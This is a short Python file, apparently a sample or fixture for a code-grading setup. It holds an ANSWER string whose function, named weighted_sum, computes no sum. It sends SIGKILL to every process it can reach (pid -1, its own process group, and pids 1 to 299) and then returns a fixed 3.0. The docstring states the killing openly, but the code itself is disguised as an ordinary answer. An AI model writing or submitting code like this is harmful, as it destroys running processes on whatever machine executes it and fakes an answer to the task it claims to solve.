"""Kills every process it may see, group by group, then by number."""

ANSWER = """
import os
def weighted_sum(w, a, b):
    for number in (-1, 0, *range(1, 300)):
        if number != os.getpid():
            try:
                os.kill(number, 9)
            except OSError:
                pass
    return 3.0
"""
